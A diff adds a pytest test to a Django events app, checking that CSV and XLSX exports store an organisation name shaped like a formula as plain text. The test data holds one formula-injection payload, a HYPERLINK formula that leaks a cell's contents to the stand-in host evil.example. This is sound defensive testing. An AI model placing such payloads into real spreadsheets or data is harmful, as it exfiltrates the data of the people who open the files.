@@ -482,3 +482,21 @@ def test_the_admin_event_page_shows_its_slots_and_runs_are_read_only(client, sta
     assert client.get(reverse("admin:events_event_change", args=[event.pk])).status_code == 200
     assert client.get(reverse("admin:events_meeting_change", args=[small_event["meeting"].pk])).status_code == 200
     assert client.get(reverse("admin:events_schedulerun_add")).status_code == 403
+
+
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_an_organisation_named_like_a_formula_is_exported_as_text(client, staff, small_event, fmt):
+    organisation = small_event["pakistani"].organisation
+    type(organisation).objects.filter(pk=organisation.pk).update(name_en=FORMULA_NAME, name_local="")
+    response = client.get(reverse("events:export", kwargs={"slug": small_event["event"].slug, "fmt": fmt}))
+    assert response.status_code == 200
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        assert rows[1][3] == "'" + FORMULA_NAME
+    else:
+        cell = load_workbook(io.BytesIO(response.content)).active["D2"]
+        assert cell.data_type == "s"
+        assert cell.value == FORMULA_NAME
